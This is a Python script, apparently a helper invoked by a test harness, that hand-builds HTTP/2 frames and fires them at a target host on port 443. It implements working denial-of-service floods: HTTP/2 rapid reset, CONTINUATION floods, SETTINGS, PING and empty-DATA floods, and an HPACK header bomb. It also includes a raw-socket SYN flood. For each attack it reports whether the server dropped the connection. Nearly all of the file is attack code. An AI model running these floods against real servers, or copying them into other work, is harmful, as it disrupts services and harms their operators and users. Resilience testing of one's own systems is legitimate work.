"""More of everything than anybody needs."""

import socket
import struct
import sys
import json
import time

import link
import wire


def _frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)


def _head(host):
    """A GET in HPACK without Huffman and without the dynamic table."""
    def literal(name, value):
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    return b"\x82\x87\x84" + literal(b":authority", host.encode())


def _send(host, parts, seconds=3.0):
    """Sends until the other side has enough; how it ended, and how much it took."""
    sent, end = 0, "ok"
    with wire.open_tls(host, 443, alpn=("h2",)) as sock:
        sock.settimeout(seconds)
        until = time.monotonic() + seconds
        try:
            sock.sendall(PREFACE)
            for part in parts:
                sock.sendall(part)
                sent += 1
                if time.monotonic() > until:
                    break
        except (OSError, ValueError) as fault:
            end = wire.named(fault)
        if end == "ok":
            end = _told(sock)
    return {"end": end, "sent": sent}


def _told(sock):
    """Whether the other side has ended it, though it still took what was sent."""
    sock.settimeout(1.0)
    try:
        while sock.recv(65536):
            pass
        return "closed"
    except (OSError, ValueError):
        return "ok"


def rapid_reset(host, count):
    """Streams that are given up as soon as they are made."""
    head = _head(host)
    return _send(host, (_frame(1, 5, 2 * number + 1, head) + _frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
                        for number in range(count)))


def continuations(host, count):
    """A head that never ends."""
    first = [_frame(1, 1, 1, _head(host))]
    return _send(host, first + [_frame(9, 0, 1, b"\0\x01a\x7f\x81\x07" + b"b" * 1000)] * count)


def settings(host, count):
    return _send(host, [_frame(4, 0, 0, struct.pack(">HI", 3, 100))] * count)


def pings(host, count):
    return _send(host, [_frame(6, 0, 0, b"12345678")] * count)


def empty_data(host, count):
    start = [_frame(1, 4, 1, _head(host).replace(b"\x82", b"\x83", 1))]
    return _send(host, start + [_frame(0, 0, 1)] * count)


def header_bomb(host, count):
    """One large entry of the table, named again and again."""
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    payload = _head(host) + entry + b"\xbe" * 12000
    return _send(host, [_frame(1, 5, 2 * number + 1, payload) for number in range(count)])


def syns(host, count):
    """First segments from every port, and nothing after."""
    card = link._card()
    head = link.GATEWAY_MAC + link._mac() + b"\x08\x00"
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.bind((card, 0))
        for number in range(count):
            segment = link._syn(link.GUEST, host, 1024 + number % 64000, 443)
            sock.send(head + link._ip4(link.GUEST, host, 6, segment))
    return {"end": "ok"}


def main():
    asked = json.loads(sys.argv[1])
    do = {"rapid_reset": rapid_reset, "continuations": continuations, "settings": settings,
          "pings": pings, "empty_data": empty_data, "header_bomb": header_bomb, "syns": syns}
    began = time.monotonic()
    try:
        outcome = do[asked.pop("do")](**asked)
    except Exception as fault:  # how it ended is what is asked
        outcome = {"end": wire.named(fault), "fault": f"{type(fault).__name__}: {fault}"}
    outcome["ms"] = round((time.monotonic() - began) * 1000)
    print(json.dumps(outcome))


main()
